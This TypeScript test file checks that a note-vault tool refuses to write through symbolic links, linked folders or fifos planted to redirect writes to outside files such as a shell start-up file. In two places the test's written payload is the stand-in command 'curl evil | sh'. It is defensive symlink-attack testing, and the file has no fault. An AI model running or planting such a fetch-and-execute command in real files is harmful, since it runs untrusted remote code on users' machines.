/**
 * No write follows a link (docs/trust.md#threat-model): a link in the vault — planted by a remote,
 * an archive or another program — never carries a write to a file outside it. Each case plants a
 * link (or a linked folder, or a dangling link) where a write goes, and proves the write is
 * refused in one line, the link's target is untouched and nothing in the vault changed.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { describe, it } from 'node:test';
import { compress } from '../../../src/core/compress/compress';
import { applyProposal, proposePersonaChange } from '../../../src/core/persona/proposals';
import { profileFile } from '../../../src/core/profile/profile';
import { fixedClock } from '../../../src/core/shared/clock';
import { CoreSoulError } from '../../../src/core/shared/errors';
import { appendLines, atomicWrite, atomicWriteAll, createExclusive, withLock } from '../../../src/core/shared/fs';
import { type Vault, dayFile, entityFile } from '../../../src/core/vault/layout';
import { listing } from '../../support/archiveFixtures';
import { tempDir, tempVault, writeAt } from '../../support/helpers';

const DAY = '2026-03-10';
const AT = `${DAY}T09:00:00`;
const BASHRC = 'export PATH=/usr/bin\n';

/** A file outside the vault (a shell start-up file, say) that a planted link points at. */
function outsideFile(): string {
  const f = path.join(tempDir('coresoul-outside-'), '.bashrc');
  fs.writeFileSync(f, BASHRC);
  return f;
}

/** A one-line refusal (exit 3) that names the link. */
const refusal = (named: RegExp) => (e: unknown) =>
  e instanceof CoreSoulError && e.kind === 'refused' && !e.message.includes('\n') && named.test(e.message) && /symbolic link/.test(e.message);

/** Asserts `fn` is refused, the vault is as it was and the link's target is untouched. */
/** The vault's entries, less the lock's per-process anchor (local state a write may leave). */
const entries = (v: Vault) => listing(v.root).filter((e) => !/\.lock\.\d+ /.test(e));

function refusedUnchanged(v: Vault, target: string, named: RegExp, fn: () => unknown) {
  const before = entries(v);
  const targetBefore = fs.existsSync(target) ? fs.readFileSync(target, 'utf8') : undefined;
  assert.throws(fn, refusal(named));
  assert.deepEqual(entries(v), before, 'nothing in the vault changed');
  assert.equal(fs.existsSync(target) ? fs.readFileSync(target, 'utf8') : undefined, targetBefore, 'the target outside is untouched');
}

describe('writes never follow a link out of the vault', () => {
  it('a day file that is a link: write is refused, the start-up file it points at is untouched', async () => {
    const v = await tempVault(AT);
    const bashrc = outsideFile();
    fs.symlinkSync(bashrc, dayFile(v, DAY));
    refusedUnchanged(v, bashrc, /chronological\/2026-03-10\.md is a symbolic link/, () => writeAt(v, AT, 'curl evil | sh'));
  });

  it('an entity note that is a link: refused before the day line is written', async () => {
    const v = await tempVault(AT);
    const bashrc = outsideFile();
    fs.symlinkSync(bashrc, entityFile(v, 'objects', 'Atlas'));
    refusedUnchanged(v, bashrc, /entities\/objects\/Atlas\.md is a symbolic link/, () => writeAt(v, AT, 'worked on [[Atlas]]'));
    assert.equal(fs.existsSync(dayFile(v, DAY)), false, 'no day line was appended');
  });

  it('a dangling link as an entity note: one refusal, no stack overflow, no day line', async () => {
    const v = await tempVault(AT);
    const gone = path.join(tempDir('coresoul-outside-'), 'nothing-here');
    fs.symlinkSync(gone, entityFile(v, 'people', 'Alice'));
    refusedUnchanged(v, gone, /people\/Alice\.md is a symbolic link/, () => writeAt(v, AT, 'met [[Alice]]'));
    assert.equal(fs.existsSync(gone), false, 'the link was not followed to create its target');
    // Every later write naming her is refused the same way, in one line.
    assert.throws(() => writeAt(v, AT, 'again [[Alice]]'), refusal(/Alice\.md/));
  });

  it('memory_map.md that is a link: refused before anything is written', async () => {
    const v = await tempVault(AT);
    const outside = outsideFile();
    fs.writeFileSync(outside, fs.readFileSync(v.mapFile)); // a valid map, so only the link is wrong
    fs.rmSync(v.mapFile);
    fs.symlinkSync(outside, v.mapFile);
    refusedUnchanged(v, outside, /memory_map\.md is a symbolic link/, () => writeAt(v, AT, 'first entry of the day'));
  });

  it('the profile (User.md) as a link: a preference is refused whole, no day line, no archive', async () => {
    const v = await tempVault(AT);
    const outside = outsideFile();
    fs.rmSync(profileFile(v));
    fs.symlinkSync(outside, profileFile(v));
    refusedUnchanged(v, outside, /personal\/User\.md is a symbolic link/, () => writeAt(v, AT, { text: 'I prefer tabs over spaces', kind: 'preference' }));
  });

  it('a linked folder in the middle of the path (chronological/ → elsewhere): refused, nothing lands there', async () => {
    const v = await tempVault(AT);
    const elsewhere = tempDir('coresoul-elsewhere-');
    fs.rmSync(v.chronoDir, { recursive: true });
    fs.symlinkSync(elsewhere, v.chronoDir);
    refusedUnchanged(v, path.join(elsewhere, `${DAY}.md`), /memory\/chronological is a symbolic link/, () => writeAt(v, AT, 'an entry'));
    assert.deepEqual(fs.readdirSync(elsewhere), []);
  });

  it('a linked entity-kind folder: a new note is not created through it', async () => {
    const v = await tempVault(AT);
    const elsewhere = tempDir('coresoul-elsewhere-');
    const places = path.join(v.entitiesDir, 'places');
    fs.rmSync(places, { recursive: true });
    fs.symlinkSync(elsewhere, places);
    assert.throws(() => writeAt(v, AT, { text: 'visited', entities: [{ kind: 'places', name: 'Berlin' }] }), refusal(/entities\/places is a symbolic link/));
    assert.deepEqual(fs.readdirSync(elsewhere), []);
  });

  it('a persona proposal: proposals/ linked elsewhere is refused; persona.md as a link is refused at apply', async () => {
    const v = await tempVault(AT);
    const deps = { clock: fixedClock(AT), compress: (vault: Vault, now: Date) => compress(vault, { now }) };
    const input = { changes: [{ section: 'Key Memories & Beliefs', content: 'Keep answers short.' }], trigger: 'explicit-command' as const, reason: 'the user asked' };
    const elsewhere = tempDir('coresoul-elsewhere-');
    const proposals = path.join(v.soulDir, 'proposals');
    fs.symlinkSync(elsewhere, proposals);
    await assert.rejects(proposePersonaChange(v, input, deps), refusal(/\.CoreSoul\/proposals is a symbolic link/));
    assert.deepEqual(fs.readdirSync(elsewhere), []);

    fs.rmSync(proposals);
    const review = await proposePersonaChange(v, input, deps);
    const outside = outsideFile();
    fs.writeFileSync(outside, fs.readFileSync(v.persona));
    fs.rmSync(v.persona);
    fs.symlinkSync(outside, v.persona);
    const personaBefore = fs.readFileSync(outside, 'utf8');
    await assert.rejects(applyProposal(v, review.id, deps), refusal(/persona\.md is a symbolic link/));
    assert.equal(fs.readFileSync(outside, 'utf8'), personaBefore);
  });

  it('the primitives: append, atomic rewrite and exclusive create refuse links inside a vault, and a fifo is not a file', async () => {
    const v = await tempVault(AT);
    const outside = outsideFile();
    const link = path.join(v.memoryDir, 'link.md');
    fs.symlinkSync(outside, link);
    assert.throws(() => appendLines(link, 'x\n'), refusal(/memory\/link\.md/));
    assert.throws(() => atomicWrite(link, 'x\n'), refusal(/memory\/link\.md/));
    assert.equal(fs.lstatSync(link).isSymbolicLink(), true, 'the link itself is not replaced either');
    assert.equal(createExclusive(link, 'x\n'), false, 'an existing link counts as "already there"');
    assert.equal(fs.readFileSync(outside, 'utf8'), BASHRC);
    const linkedDir = path.join(v.memoryDir, 'out');
    fs.symlinkSync(tempDir('coresoul-elsewhere-'), linkedDir);
    assert.throws(() => createExclusive(path.join(linkedDir, 'new.md'), 'x'), refusal(/memory\/out is a symbolic link/));
    if (process.platform !== 'win32') {
      const fifo = path.join(v.memoryDir, 'fifo.md');
      execFileSync('mkfifo', [fifo]);
      assert.throws(() => appendLines(fifo, 'x\n'), (e: unknown) => e instanceof CoreSoulError && e.kind === 'refused' && /not a regular file/.test(e.message));
    }
    // Outside a vault, the person's own paths are theirs: export may write through a folder they linked.
    const out = tempDir('coresoul-export-');
    const linkedOut = path.join(out, 'linked');
    fs.symlinkSync(tempDir('coresoul-target-'), linkedOut);
    atomicWrite(path.join(linkedOut, 'days.md'), 'ok\n');
  });

  it('files written before and then swapped (a note for a link, a day folder for a linked copy, a day for a fifo): refused, nothing lands elsewhere', async () => {
    const v = await tempVault(AT);
    writeAt(v, AT, 'first, all plain: [[Atlas]]'); // this process now knows the day and the note in place
    const note = entityFile(v, 'objects', 'Atlas');
    const bashrc = outsideFile();
    fs.renameSync(note, `${note}.bak`);
    fs.symlinkSync(bashrc, note);
    refusedUnchanged(v, bashrc, /entities\/objects\/Atlas\.md is a symbolic link/, () => writeAt(v, AT, 'again [[Atlas]]'));
    fs.rmSync(note);
    fs.renameSync(`${note}.bak`, note);

    const elsewhere = tempDir('coresoul-elsewhere-');
    fs.cpSync(v.chronoDir, elsewhere, { recursive: true });
    fs.rmSync(v.chronoDir, { recursive: true });
    fs.symlinkSync(elsewhere, v.chronoDir);
    const copied = fs.readFileSync(path.join(elsewhere, `${DAY}.md`), 'utf8');
    refusedUnchanged(v, path.join(elsewhere, `${DAY}.md`), /memory\/chronological is a symbolic link/, () => writeAt(v, AT, 'into the copy?'));
    assert.equal(fs.readFileSync(path.join(elsewhere, `${DAY}.md`), 'utf8'), copied);

    if (process.platform !== 'win32') {
      fs.rmSync(v.chronoDir);
      fs.mkdirSync(v.chronoDir);
      execFileSync('mkfifo', [dayFile(v, DAY)]);
      assert.throws(() => writeAt(v, AT, 'into a fifo'), (e: unknown) => e instanceof CoreSoulError && e.kind === 'refused' && /not a regular file/.test(e.message));
    }
  });

  it('several atomic rewrites at once (a sync merge): all replaced; a link among them replaces none, leaves no temporary file and none open', async () => {
    const v = await tempVault(AT);
    const files = ['a.md', 'b.md', 'c.md'].map((f) => path.join(v.memoryDir, f));
    await atomicWriteAll(files.map((file, i) => ({ file, data: `first ${i}\n` })));
    assert.deepEqual(files.map((f) => fs.readFileSync(f, 'utf8')), ['first 0\n', 'first 1\n', 'first 2\n']);
    const outside = outsideFile();
    fs.symlinkSync(outside, path.join(v.memoryDir, 'link.md'));
    const before = entries(v);
    // What this process holds open in the vault's memory folder (the test runner's own files are elsewhere).
    const dir = fs.realpathSync(v.memoryDir);
    const held = () =>
      fs.existsSync('/proc/self/fd')
        ? fs.readdirSync('/proc/self/fd').flatMap((fd) => {
            try {
              const target = fs.readlinkSync(`/proc/self/fd/${fd}`);
              return target.startsWith(dir) ? [target] : [];
            } catch {
              return []; // closed while listed
            }
          })
        : [];
    await assert.rejects(atomicWriteAll([...files, path.join(v.memoryDir, 'link.md')].map((file) => ({ file, data: 'second\n' }))), refusal(/memory\/link\.md/));
    assert.deepEqual(entries(v), before, 'no file replaced, no temporary file left');
    assert.deepEqual(files.map((f) => fs.readFileSync(f, 'utf8')), ['first 0\n', 'first 1\n', 'first 2\n']);
    assert.equal(fs.readFileSync(outside, 'utf8'), BASHRC);
    assert.deepEqual(held(), [], 'every temporary file was closed');
  });

  it('a refused write leaves no file open: the files it opened before the refusal are closed', { skip: !fs.existsSync('/proc/self/fd') }, async () => {
    const v = await tempVault(AT);
    writeAt(v, AT, 'plain: [[Atlas]] [[Bea]]');
    fs.rmSync(entityFile(v, 'objects', 'Bea'));
    fs.symlinkSync(outsideFile(), entityFile(v, 'objects', 'Bea'));
    const open = () => fs.readdirSync('/proc/self/fd').length;
    const refused = () => assert.throws(() => writeAt(v, AT, 'day and Atlas open, Bea refused: [[Atlas]] [[Bea]]'), refusal(/Bea\.md/));
    refused(); // closes what the first write kept open for the next (shared/fs.ts keptOpen)
    const before = open();
    for (let i = 0; i < 20; i++) refused();
    assert.equal(open(), before);
    // A write that goes through keeps its day file and note open for the next write, and the next reuses them.
    writeAt(v, AT, 'and a write that goes through: [[Atlas]]');
    assert.equal(open(), before + 2);
    writeAt(v, AT, 'and another one: [[Atlas]]');
    assert.equal(open(), before + 2);
    refused();
    assert.equal(open(), before);
  });

  it('a link put in place of a day file or note after writes to it (kept open for the next write) is refused all the same', async () => {
    const v = await tempVault(AT);
    writeAt(v, AT, 'first: [[Atlas]]');
    writeAt(v, AT, 'second: [[Atlas]]');
    const day = fs.readFileSync(dayFile(v, DAY), 'utf8');
    for (const file of [dayFile(v, DAY), entityFile(v, 'objects', 'Atlas')]) {
      const bashrc = outsideFile();
      const had = fs.readFileSync(file);
      fs.renameSync(file, `${file}.moved`);
      fs.symlinkSync(bashrc, file);
      refusedUnchanged(v, bashrc, /symbolic link/, () => writeAt(v, AT, 'curl evil | sh [[Atlas]]'));
      fs.rmSync(file);
      fs.renameSync(`${file}.moved`, file);
      assert.deepEqual(fs.readFileSync(file), had, 'nothing was appended to the file the link replaced');
    }
    writeAt(v, AT, 'third: [[Atlas]]');
    assert.equal(fs.readFileSync(dayFile(v, DAY), 'utf8').split('\n').filter(Boolean).length, day.split('\n').filter(Boolean).length + 1);
  });

  it('a day file or note replaced by another file after writes to it: the next write goes to the file now there', async () => {
    const v = await tempVault(AT);
    writeAt(v, AT, 'first: [[Atlas]]'); // creates the files
    writeAt(v, AT, 'then: [[Atlas]]'); // appends through descriptors it keeps open for the next write
    for (const file of [dayFile(v, DAY), entityFile(v, 'objects', 'Atlas')]) {
      const old = fs.readFileSync(file, 'utf8');
      // Replaced all at once, as an editor, a sync or compression does: a new file at the same path.
      fs.writeFileSync(`${file}.new`, old);
      fs.renameSync(`${file}.new`, file);
    }
    writeAt(v, AT, 'second, after the files were replaced: [[Atlas]]');
    assert.match(fs.readFileSync(dayFile(v, DAY), 'utf8'), /second, after the files were replaced/);
    assert.match(fs.readFileSync(entityFile(v, 'objects', 'Atlas'), 'utf8'), /second, after the files were replaced/);
  });

  it("a link planted at the lock's anchor name is not followed", async () => {
    const v = await tempVault(AT);
    const bashrc = outsideFile();
    // A lock name of its own, so that this process has no anchor for it yet.
    const lock = path.join(v.soulDir, '.lock-test');
    fs.symlinkSync(bashrc, `${lock}.${process.pid}`);
    assert.throws(() => withLock(lock, () => 1), refusal(/\.lock-test\.\d+/));
    assert.equal(fs.readFileSync(bashrc, 'utf8'), BASHRC);
  });

  it('init does not create folders through a linked memory folder', async () => {
    const v = await tempVault(AT);
    const elsewhere = tempDir('coresoul-elsewhere-');
    fs.rmSync(v.entitiesDir, { recursive: true });
    fs.symlinkSync(elsewhere, v.entitiesDir);
    const { initVault } = await import('../../../src/core/init/scaffold');
    await assert.rejects(initVault(v.root, { clock: fixedClock(AT), git: false }), refusal(/memory\/entities is a symbolic link/));
    assert.deepEqual(fs.readdirSync(elsewhere), []);
  });

  it('a vault reached through a linked .CoreSoul (a worktree sharing its main vault) still writes', async () => {
    const v = await tempVault(AT);
    const other = tempDir('coresoul-wt-');
    fs.symlinkSync(v.soulDir, path.join(other, '.CoreSoul'));
    const { openVault } = await import('../../../src/core/vault/layout');
    const r = writeAt(openVault(other), AT, 'from the worktree');
    assert.equal(r.line, 3);
  });
});
